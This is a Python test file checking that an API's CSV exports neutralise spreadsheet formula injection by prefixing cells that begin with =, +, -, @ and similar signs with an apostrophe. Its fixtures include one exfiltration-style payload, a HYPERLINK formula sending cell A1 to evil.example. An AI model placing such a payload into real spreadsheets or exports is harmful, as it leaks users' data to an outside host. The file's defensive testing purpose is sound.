"""No text of the record is a formula in a spreadsheet, and a table read back has the same texts."""

from __future__ import annotations

import codecs
import csv
import io
from typing import TYPE_CHECKING, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.commands.csv_cells import read_cell, write_table
from api.commands.importing.csv_rows import read_csv
from tests.api.asking import TALKS

if TYPE_CHECKING:
    from tests.api.asking import Client

SIGNS: Final = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULAS: Final = (
    '=HYPERLINK("https://evil.example?"&A1;"Freed")',
    *("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "-0044", "'=1", "''+1", "-"),
)


def cells(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_would_compute_stands_behind_an_apostrophe(text: str) -> None:
    _, (shown, number, none) = cells(write_table(("a", "b", "c"), [(text, -5, None)], bom=False))
    assert (shown, number, none) == (f"'{text}", "-5", "")
    assert read_cell(shown) == text


@pytest.mark.parametrize(
    "text", ["Freed", "'tis", "52-54", "a=b", "2025-09-11", "'", "", "[1]", "'Freed'"]
)
def test_what_is_no_formula_stands_as_it_is(text: str) -> None:
    assert cells(write_table(("a",), [(text,)], bom=False))[1:] == [[text] if text else [""]]
    assert read_cell(text) == text


@given(st.text(SIGNS + "'\"a,;1 ", max_size=12) | st.text(max_size=20))
def test_whatever_is_written_is_read_back_and_begins_as_no_formula(text: str) -> None:
    _, (shown, _) = cells(write_table(("a", "b"), [(text, "x")], bom=False))
    assert not shown.startswith(tuple(SIGNS))
    assert read_cell(shown) == text


@pytest.mark.parametrize(
    ("cell", "text"),
    [('="0047"', "0047"), ('="say ""no"""', 'say "no"'), ('=""', ""), ('="a"&"b"', '="a"&"b"')],
)
def test_a_text_that_is_written_as_a_formula_is_that_text(cell: str, text: str) -> None:
    assert read_cell(cell) == text


def test_a_table_of_ours_is_imported_as_it_was_written() -> None:
    columns = ("kind", "valid", "summary", "person", "post", "people")
    row = ("appointment", "-0044", "=1+1", "@John", "'-post", "-A; =B")
    (line,) = read_csv(write_table(columns, [row], bom=True).splitlines(keepends=True))
    assert line.content == {**dict(zip(columns, row, strict=True)), "people": ["-A", "=B"]}


def test_the_audit_computes_nothing_and_begins_with_a_mark_on_request(client: Client) -> None:
    client.open()
    record = client.record(summary="=1+1 freed", note="-")
    body = {"reason": "coding_error", "why": '@SUM(A1:A9),"x"', "changes": {"summary": "+2 freed"}}
    where = f"{record.headers['location']}/corrections"
    assert client.post(where, body, if_match=record.headers["etag"]).status == 200
    plainly = client.get(f"{TALKS}/audit", accept="text/csv")
    marked = client.get(f"{TALKS}/audit?bom=true", accept="text/csv")
    assert marked.body == codecs.BOM_UTF8 + plainly.body
    assert marked.headers["etag"] != plainly.headers["etag"]
    assert "bom=true" in marked.headers["link"]
    header, row = cells(marked.body)
    shown = dict(zip(header, row, strict=True))
    assert (shown["summary"], shown["why"]) == ("'+2 freed", '\'@SUM(A1:A9),"x"')
    assert shown["changes"].startswith("[")
    as_json = client.get(f"{TALKS}/audit?bom=true")
    assert as_json.json["items"][0]["fact"]["summary"] == "+2 freed"
    assert "bom" not in as_json.headers["link"]
    assert client.get(f"{TALKS}/audit?bom=1").pointers == ["/query/bom"]


def test_every_list_that_is_asked_for_as_a_table_is_one(client: Client) -> None:
    client.open()
    for day in range(3):
        client.record(
            summary=f"=1+{day}",
            valid=f"2025-09-{11 + day}",
            people=["@Ann", "Bo"],
            quantities=[{"what": "released", "value": 1 + day}],
            external_id=f"F-{day}",
        )
    record = client.record(
        kind="measure", authority="A", target="T", action="imposed", stage="in_force"
    )
    body = {"reason": "coding_error", "why": "+x", "changes": {"summary": "-2 eased"}}
    where = f"{record.headers['location']}/corrections"
    assert client.post(where, body, if_match=record.headers["etag"]).status == 200
    firsts = {
        "timeline?position=6": ("id", 4),
        "tally?what=released&by=day&position=6": ("at", 3),
        "diff?from=2020&position=6": ("section", 4),
        "people?position=6": ("name", 3),
        "audit?position=6": ("position", 1),
    }
    for asked, (first, number) in firsts.items():
        address = f"{TALKS}/{asked}"
        plain, as_json = client.get(address, accept="text/csv"), client.get(address)
        assert plain.headers["content-type"] == "text/csv; charset=utf-8"
        for answer in (plain, as_json):
            assert "Accept" in answer.headers["vary"]
        assert plain.headers["etag"] != as_json.headers["etag"]
        marked = client.get(f"{address}&bom=true", accept="text/csv")
        assert marked.body == codecs.BOM_UTF8 + plain.body
        assert client.get(f"{address}&bom=true").json == as_json.json
        assert client.get(f"{address}&bom=1").pointers == ["/query/bom"]
        (header, *rows) = cells(plain.body)
        assert (header[0], len(rows)) == (first, number)
        assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
        if first not in {"name", "position"}:
            page = client.get(f"{address}&limit=2&bom=true", accept="text/csv")
            following = page.headers["link"].partition("<")[2].partition(">")[0]
            rest = client.get(following, accept="text/csv").body
            assert rest.startswith(codecs.BOM_UTF8)
            assert cells(page.body)[1:] + cells(rest)[1:] == rows
    header, *rows = cells(client.get(f"{TALKS}/timeline", accept="text/csv").body)
    shown = [dict(zip(header, row, strict=True)) for row in rows]
    (freed,) = (each for each in shown if each["external_id"] == "F-0")
    assert (freed["people"], freed["sources"]) == ("'@Ann; Bo", "Kyiv Independent")
    assert '"what": "released"' in freed["quantities"]
    assert '"authority": "A"' in next(each["own"] for each in shown if each["kind"] == "measure")
